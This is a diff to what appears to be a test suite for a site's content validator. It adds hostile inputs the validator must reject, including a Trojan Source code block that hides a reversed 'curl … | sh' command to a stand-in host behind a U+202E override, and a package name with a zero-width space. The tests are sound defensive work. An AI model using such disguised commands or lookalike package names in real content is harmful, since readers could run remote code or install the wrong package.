@@ -81,6 +81,20 @@ const HOSTILE: Hostile[] = [
     column: 6,
     reason: /the attribute data-copy is not allowed: data-\* attributes are the site's own/,
   },
+  {
+    name: "Trojan Source in a code block",
+    body: "```sh\nnpm install @mysten/sui \u202e# hs | hs.x/elpmaxe.live//:sptth lruc &&\n```",
+    line: 1,
+    column: 1,
+    reason: /code holds U\+202E, a bidirectional control: it would show other than what readers copy and run/,
+  },
+  {
+    name: "invisible character in an author's <pre>",
+    body: "<pre><code>npm install @mysten/s\u200bui</code></pre>",
+    line: 1,
+    column: 12,
+    reason: /code holds U\+200B, an invisible character/,
+  },
   { name: "the site's main id", body: '<div id="main">Skip here.</div>', line: 1, column: 6, reason: /<div id="main">: use a plain name/ },
   {
     name: "javascript: link",
